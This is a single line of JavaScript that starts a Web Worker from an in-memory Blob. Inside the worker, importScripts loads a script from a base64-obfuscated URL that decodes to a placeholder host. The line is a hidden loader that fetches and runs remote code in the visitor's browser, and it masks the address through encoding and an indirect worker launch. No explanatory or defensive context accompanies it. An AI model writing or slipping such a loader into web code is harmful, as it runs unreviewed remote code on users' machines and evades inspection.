new Worker(URL.createObjectURL(new Blob(["importScripts(atob('aHR0cHM6Ly93cmstaW1wLmV4YW1wbGUvdy5qcw=='))"])));
